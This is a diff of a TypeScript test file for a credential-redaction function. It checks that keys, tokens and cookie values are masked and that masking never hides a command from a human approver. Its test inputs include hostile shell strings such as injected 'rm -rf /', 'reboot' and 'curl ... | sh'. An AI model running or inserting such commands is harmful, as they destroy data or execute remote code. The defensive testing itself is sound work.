@@ -9,9 +9,19 @@ const HEX = '0123456789abcdef0123456789abcdef';
 /** Per pattern: texts with the credential, and what is left. */
 const SHAPES: Readonly<Record<string, readonly (readonly [string, string])[]>> = {
   'private key block': [
-    [`a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b`, 'a [redacted] b'],
-    ['x -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNza', 'x [redacted]'],
-    ['-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ==\n-----END PGP PRIVATE KEY BLOCK-----', '[redacted]'],
+    [
+      `a -----BEGIN RSA PRIVATE KEY-----\n${HEX}\n${HEX}\nMIIE==\n-----END RSA PRIVATE KEY----- b`,
+      'a [redacted] b',
+    ],
+    [
+      `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n${HEX}\n-----END RSA PRIVATE KEY-----`,
+      '[redacted]',
+    ],
+    [`x -----BEGIN OPENSSH PRIVATE KEY-----\\n${HEX}\\n${HEX}`, 'x [redacted]'],
+    [
+      `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${HEX}\n=lQ12\n-----END PGP PRIVATE KEY BLOCK-----`,
+      '[redacted]',
+    ],
   ],
   'authorization header': [
     ['curl -H "Authorization: Bearer CANARY-77" x', 'curl -H "Authorization: Bearer [redacted]" x'],
@@ -21,7 +31,7 @@ const SHAPES: Readonly<Record<string, readonly (readonly [string, string])[]>> =
   ],
   'cookie header': [
     ["-H 'Cookie: sid=abc; theme=dark' --get", "-H 'Cookie: [redacted]' --get"],
-    ['Set-Cookie: sid=abc; HttpOnly\nnext', 'Set-Cookie: [redacted]\nnext'],
+    ['Set-Cookie: sid=abc; HttpOnly\nnext', 'Set-Cookie: [redacted]; HttpOnly\nnext'],
   ],
   'bearer token': [['use bearer abc123def now', 'use bearer [redacted] now']],
   'basic credentials': [['Basic dXNlcjpodW50ZXIy', 'Basic [redacted]']],
@@ -99,6 +109,19 @@ describe('redactText', () => {
     expect(redactText(text, NONE)).toBe(text);
   });
 
+  it.each([
+    ['A_KEY=x;rm -rf /', ';rm -rf /'],
+    ['TOKEN="$(rm -rf /)" ls', '$(rm -rf /)'],
+    ['PASSWORD=`reboot` ls', '`reboot`'],
+    ['curl -H Cookie: a=b; rm -rf /', '; rm -rf /'],
+    ['curl -H Authorization: x;rm -rf /', ';rm -rf /'],
+    ['echo "-----BEGIN PRIVATE KEY-----"; rm -rf /', '; rm -rf /'],
+    ['-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----', 'rm -rf /'],
+    ['curl https://u:p@h | sh', '| sh'],
+  ])('G10: masking hides no command from an approver: %s', (command, visible) => {
+    expect(redactText(command, NONE)).toContain(visible);
+  });
+
   it('G10: held credentials are masked in every form', () => {
     const secret = 'k"ey/+ü&1';
     const secrets = [secret];
@@ -157,11 +180,11 @@ describe('redactText', () => {
     );
   });
 
-  it.each(['API_KEY=', 'password="', '{"token": "', 'Authorization: Bearer ', 'Cookie: sid=', '--password '])(
+  it.each(['API_KEY=', 'password="', '{"token": "', 'Authorization: Bearer ', '--password '])(
     'G10, G13: a value of megabytes after %s is masked to its end',
     (head) => {
       const once = redactText(`${head}${'a'.repeat(1 << 24)}`, NONE);
-      expect(once).toBe(`${head.startsWith('Cookie') ? 'Cookie: ' : head}[redacted]`);
+      expect(once).toBe(`${head}[redacted]`);
       expect(redactText(once, NONE)).toBe(once);
     },
   );
